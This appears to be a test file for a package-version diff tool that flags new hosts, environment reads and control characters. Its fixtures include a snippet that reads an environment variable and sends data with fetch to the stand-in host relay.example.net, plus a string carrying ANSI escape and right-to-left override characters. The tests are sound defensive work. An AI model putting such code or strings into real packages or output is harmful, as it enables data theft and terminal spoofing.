import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { comparePrograms } from "../../../src/static/versions/compare-programs.ts";
import type { VersionDiff } from "../../../src/static/versions/version-diff.ts";
import { diffJson } from "../../../src/report/diff/json.ts";
import { diffReport } from "../../../src/report/diff/report.ts";
import { programOf } from "../../static/versions/made-up.ts";

function diffOf(before: string, after: string): VersionDiff {
  const subject = (version: string) => ({
    name: "tool",
    version,
    sha256: "ab".repeat(32),
    source: "npm:tool",
  });
  const counts = {
    modules: 1,
    functions: 1,
    characters: 1,
    unread: [],
    unreadCount: 0,
    texts: 0,
    notUnderstood: 0,
    notUnderstoodBytes: 0,
  };
  return {
    schema: "telltale.diff/1",
    before: subject("1.0.0"),
    after: subject("1.0.1"),
    seconds: 2,
    ...comparePrograms(programOf(before), programOf(after)),
    started: [],
    files: [],
    coverage: { before: counts, after: counts, limits: [] },
  };
}

const reading = diffOf(
  "function f(a){return a.start('x',a.b)}",
  "function f(a){a.zone=process.env.TZ;return a.start('x',a.b)}function g(b){return fetch('https://relay.example.net/',{body:b})}",
);

describe("the report of a difference", () => {
  test("says the versions, the counts, new hosts and variables, and what is touched", () => {
    const text = diffReport(reading, { colour: false, all: false });
    assert.match(text, /tool 1\.0\.0 → 1\.0\.1/);
    assert.match(text, /1 changed, 1 new, 0 gone of 2 functions/);
    assert.match(text, /HOSTS +\+relay\.example\.net/);
    assert.match(text, /READS +\+TZ/);
    assert.match(text, /CHANGED +\+timezone \+env/);
    assert.match(text, /\+ +a\.zone=process\.env\.TZ/);
  });

  test("keeps to the width", () => {
    for (const columns of [80, 120])
      for (const line of diffReport(reading, { columns, colour: false, all: true }).split("\n"))
        assert.ok(line.length <= columns, line);
  });

  test("draws a look-alike by its name, and lets nothing act on the terminal", () => {
    const hostile = diffOf(
      'function f(d){return "Today\'s date is "+d}',
      'function f(d){return "Today\u02bcs date is \u001b[31m\u202e"+d}',
    );
    const text = diffReport(hostile, { colour: false, all: true });
    assert.match(text, /U\+02BC/);
    // oxlint-disable-next-line no-control-regex -- that none of these is there is what is tested
    assert.doesNotMatch(text, /[\u001b\u202e]/);
    // oxlint-disable-next-line no-control-regex -- that none of these is there is what is tested
    assert.doesNotMatch(diffJson(hostile), /[\u001b\u202e]/);
  });

  test("of two that are the same says so in a few lines", () => {
    const text = diffReport(diffOf("function f(a){return a.b}", "const g=z=>z.b"), {
      colour: false,
      all: false,
    });
    assert.match(text, /0 changed, 0 new, 0 gone/);
    assert.ok(text.split("\n").length < 10);
  });

  test("as JSON it is what its schema says", () => {
    const parsed: unknown = JSON.parse(diffJson(reading));
    assert.deepEqual(parsed, structuredClone(reading));
  });
});
